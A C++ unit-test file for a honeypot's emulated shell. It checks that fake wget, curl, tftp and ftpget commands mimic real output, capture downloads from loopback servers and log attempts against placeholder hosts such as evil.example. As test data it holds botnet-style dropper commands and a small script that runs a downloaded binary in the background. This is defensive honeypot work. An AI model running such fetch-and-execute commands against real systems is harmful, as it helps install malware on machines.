// wget, curl, tftp and ftpget in a session: their text, the file in the overlay, and the
// `download` / `file_captured` events; fetches go only to a loopback server this test
// starts, allowed explicitly.
#include <gtest/gtest.h>

#include "honeypot/services/registry.hpp"
#include "honeypot/shell/downloader.hpp"
#include "unit/honeypot/shell/command_bench.hpp"
#include "unit/honeypot/shell/loopback_ftp.hpp"
#include "unit/honeypot/shell/loopback_http.hpp"
#include "unit/honeypot/shell/loopback_tftp.hpp"

namespace decnet::honeypot::shell {
namespace {

using testing::CommandScript;
using testing::field;
using testing::first_event;
using testing::LoopbackHttp;
using testing::run_commands;

CommandScript fetching(std::vector<std::vector<std::string>> commands,
                       std::vector<std::string> allow = {"127.0.0.1/32"}) {
    CommandScript script;
    script.settings.downloads = DownloadMode::fetch;
    script.settings.download_allow = std::move(allow);
    script.settings.download_timeout = std::chrono::seconds(5);
    script.commands = std::move(commands);
    return script;
}

const std::string kPayload = "#!/bin/sh\ncd /tmp; ./x86 &\n";

// Every event the download commands emitted is in download_events(), field by field.
void expect_declared(const std::vector<Event>& events) {
    ServiceModule module;
    module.slug = "ssh";
    module.events = download_events();
    for (const auto& e : events) EXPECT_EQ(undeclared(module, e), "") << e.event_type;
}

TEST(WgetCommand, FetchesIntoTheOverlayAndTheEvents) {
    LoopbackHttp server({{"/bins/x.sh", LoopbackHttp::ok(kPayload, "application/x-sh")}});
    auto script = fetching({{"wget", server.url("/bins/x.sh")}});
    script.read_back = {"/root/x.sh"};
    const auto events = run_commands(script);
    const auto& r = script.results.at(0);
    EXPECT_EQ(r.status, 0) << r.err;
    EXPECT_NE(
        r.err.find("Connecting to 127.0.0.1:" + std::to_string(server.port()) + "... connected.\n"),
        std::string::npos)
        << r.err;
    EXPECT_NE(r.err.find("HTTP request sent, awaiting response... 200 OK\n"), std::string::npos);
    EXPECT_NE(r.err.find("Length: 27 [application/x-sh]\n"), std::string::npos) << r.err;
    EXPECT_NE(r.err.find("\u2018x.sh\u2019 saved [27/27]"), std::string::npos) << r.err;
    EXPECT_EQ(script.files["/root/x.sh"], kPayload);
    expect_declared(events);
    const auto& download = first_event(events, "download");
    EXPECT_EQ(field(download, "status"), "fetched");
    EXPECT_EQ(field(download, "tool"), "wget");
    EXPECT_EQ(field(download, "size"), "27");
    EXPECT_EQ(field(download, "user"), "root");
    const auto& captured = first_event(events, "file_captured");
    EXPECT_EQ(field(captured, "sha256"), field(download, "sha256"));
    EXPECT_EQ(field(captured, "filename"), "x.sh");
    EXPECT_EQ(field(captured, "transfer"), "wget");
}

TEST(WgetCommand, RecordModeFailsLikeAHostWithoutRouteOut) {
    CommandScript script;
    script.commands = {{"wget", "http://evil.example/x86"}, {"wget", "http://198.51.100.7:8080/a"}};
    const auto events = run_commands(script);
    EXPECT_EQ(script.results.at(0).status, 4);
    EXPECT_NE(script.results[0].err.find(
                  "Resolving evil.example (evil.example)... failed: Temporary failure in name "
                  "resolution.\nwget: unable to resolve host address \u2018evil.example\u2019\n"),
              std::string::npos)
        << script.results[0].err;
    EXPECT_NE(script.results.at(1).err.find(
                  "Connecting to 198.51.100.7:8080... failed: Connection timed out.\n"),
              std::string::npos)
        << script.results[1].err;
    expect_declared(events);
    const auto& download = first_event(events, "download");
    EXPECT_EQ(field(download, "status"), "recorded");
    EXPECT_EQ(field(download, "host"), "evil.example");
    EXPECT_EQ(field(download, "port"), "80");
    EXPECT_EQ(field(download, "url"), "http://evil.example/x86");
}

TEST(WgetCommand, WritesToStdoutAndNamesTakenFilesLikeWget) {
    LoopbackHttp server({{"/a", LoopbackHttp::ok("one")}});
    auto script = fetching({{"wget", "-qO-", server.url("/a")},
                            {"wget", "-q", server.url("/a")},
                            {"wget", "-q", server.url("/a")}});
    script.read_back = {"/root/a", "/root/a.1"};
    run_commands(script);
    EXPECT_EQ(script.results.at(0).out, "one");
    EXPECT_EQ(script.results[0].err, "");
    EXPECT_EQ(script.files["/root/a"], "one");
    EXPECT_EQ(script.files["/root/a.1"], "one");
}

TEST(CurlCommand, FetchesToStdoutOrFile) {
    LoopbackHttp server({{"/p", LoopbackHttp::ok(kPayload)}});
    auto script =
        fetching({{"curl", "-s", server.url("/p")}, {"curl", "-sSLo", "/tmp/p", server.url("/p")}});
    script.read_back = {"/tmp/p"};
    const auto events = run_commands(script);
    EXPECT_EQ(script.results.at(0).out, kPayload);
    EXPECT_EQ(script.results.at(1).status, 0);
    EXPECT_EQ(script.files["/tmp/p"], kPayload);
    EXPECT_EQ(field(first_event(events, "download"), "tool"), "curl");
}

TEST(CurlCommand, GuardRefusesLoopbackWithoutAllowAndConnectsNowhere) {
    LoopbackHttp server({{"/p", LoopbackHttp::ok(kPayload)}});
    auto script = fetching({{"curl", server.url("/p")}}, {});
    const auto events = run_commands(script);
    EXPECT_EQ(script.results.at(0).status, 28);
    EXPECT_NE(script.results[0].err.find("curl: (28) Failed to connect to 127.0.0.1 port"),
              std::string::npos);
    EXPECT_EQ(server.connections(), 0);
    expect_declared(events);
    const auto& download = first_event(events, "download");
    EXPECT_EQ(field(download, "status"), "refused");
    EXPECT_EQ(field(download, "reason"), "refused_address");
}

TEST(CurlCommand, RecordModeCannotResolve) {
    CommandScript script;
    script.commands = {{"curl", "-fsSL", "http://evil.example/x.sh"}, {"curl"}};
    run_commands(script);
    EXPECT_EQ(script.results.at(0).status, 6);
    EXPECT_EQ(script.results[0].err, "curl: (6) Could not resolve host: evil.example\n");
    EXPECT_EQ(script.results.at(1).status, 2);
}

TEST(TftpAndFtpget, RecordTheirDownloads) {
    CommandScript script;
    script.commands = {{"tftp", "-g", "-r", "mips", "203.0.113.9"},
                       {"ftpget", "-u", "anonymous", "-p", "x", "evil.example", "bot", "bot"},
                       {"tftp", "203.0.113.9", "-c", "get", "arm7"}};
    const auto events = run_commands(script);
    EXPECT_EQ(script.results.at(0).err, "tftp: timeout\n");
    EXPECT_EQ(script.results.at(1).err, "ftpget: bad address 'evil.example'\n");
    EXPECT_EQ(script.results.at(2).err, "Transfer timed out.\n\n");
    std::vector<std::string> urls;
    for (const auto& e : events)
        if (e.event_type == "download") urls.push_back(field(e, "url"));
    EXPECT_EQ(urls, (std::vector<std::string>{"tftp://203.0.113.9/mips", "ftp://evil.example/bot",
                                              "tftp://203.0.113.9/arm7"}));
}

TEST(TftpCommand, FetchesOverTftpIntoTheOverlay) {
    std::string binary(1300, '\0');
    for (std::size_t i = 0; i < binary.size(); ++i) binary[i] = static_cast<char>(i * 7);
    testing::LoopbackTftp server({{"mips", binary}, {"small", "#!/bin/sh\n"}});
    const std::string port = std::to_string(server.port());
    auto script = fetching({{"tftp", "-g", "-r", "mips", "-l", "/tmp/m", "127.0.0.1", port},
                            {"tftp", "127.0.0.1", port, "-c", "get", "small"},
                            {"tftp", "-g", "-r", "nothere", "127.0.0.1", port}});
    script.read_back = {"/tmp/m", "/root/small"};
    const auto events = run_commands(script);
    EXPECT_EQ(script.results.at(0).status, 0) << script.results[0].err;
    EXPECT_EQ(script.files["/tmp/m"], binary);
    EXPECT_EQ(script.files["/root/small"], "#!/bin/sh\n");
    EXPECT_EQ(script.results.at(2).err, "tftp: server error: (1) File not found\n");
    EXPECT_EQ(field(first_event(events, "file_captured"), "size"), "1300");
}

TEST(TftpCommand, GuardRefusesLoopbackWithoutAllow) {
    testing::LoopbackTftp server(std::map<std::string, std::string>{{"mips", "x"}});
    auto script =
        fetching({{"tftp", "-g", "-r", "mips", "127.0.0.1", std::to_string(server.port())}}, {});
    const auto events = run_commands(script);
    EXPECT_EQ(script.results.at(0).err, "tftp: timeout\n");
    EXPECT_EQ(field(first_event(events, "download"), "status"), "refused");
    EXPECT_EQ(server.requests(), 0);
}

TEST(FtpgetCommand, FetchesOverPassiveFtpFromTheControlAddressOnly) {
    testing::LoopbackFtp server(std::map<std::string, std::string>{{"bins/bot", kPayload}});
    const std::string port = std::to_string(server.port());
    auto script = fetching({{"ftpget", "-P", port, "127.0.0.1", "/tmp/bot", "bins/bot"},
                            {"ftpget", "-P", port, "127.0.0.1", "missing"},
                            {"wget", "-q", "ftp://127.0.0.1:" + port + "/bins/bot"}});
    script.read_back = {"/tmp/bot", "/root/bot"};
    const auto events = run_commands(script);
    EXPECT_EQ(script.results.at(0).status, 0) << script.results[0].err;
    EXPECT_EQ(script.files["/tmp/bot"], kPayload);  // PASV named 10.9.8.7; data came anyway
    EXPECT_EQ(script.results.at(1).err,
              "ftpget: unexpected server response to RETR: 550 Failed to open file.\n");
    EXPECT_EQ(script.results.at(2).status, 0) << script.results[2].err;
    EXPECT_EQ(script.files["/root/bot"], kPayload);
    EXPECT_EQ(field(first_event(events, "download"), "status"), "fetched");
}

TEST(WgetCommand, SpeaksBusyBoxOnAlpine) {
    LoopbackHttp server({{"/x86", LoopbackHttp::ok(kPayload)}});
    auto script = fetching({{"wget", server.url("/x86")}});
    script.distro = "alpine";
    script.read_back = {"/root/x86"};
    run_commands(script);
    const std::string target = "127.0.0.1:" + std::to_string(server.port());
    EXPECT_EQ(script.results.at(0).status, 0);
    EXPECT_TRUE(script.results[0].err.starts_with("Connecting to " + target + " (" + target +
                                                  ")\nsaving to 'x86'\n"))
        << script.results[0].err;
    EXPECT_TRUE(script.results[0].err.ends_with("'x86' saved\n"));
    EXPECT_EQ(script.files["/root/x86"], kPayload);
    // Record mode (names are never resolved: no query leaves this machine).
    CommandScript recorded;
    recorded.distro = "alpine";
    recorded.commands = {{"wget", "http://evil.example/a"}, {"wget", "http://198.51.100.7/a"}};
    run_commands(recorded);
    EXPECT_EQ(recorded.results.at(0).err, "wget: bad address 'evil.example'\n");
    EXPECT_EQ(recorded.results[0].status, 1);
    EXPECT_EQ(recorded.results.at(1).err,
              "Connecting to 198.51.100.7:80 (198.51.100.7:80)\nwget: can't connect to remote "
              "host (198.51.100.7): Connection timed out\n");
}

}  // namespace
}  // namespace decnet::honeypot::shell
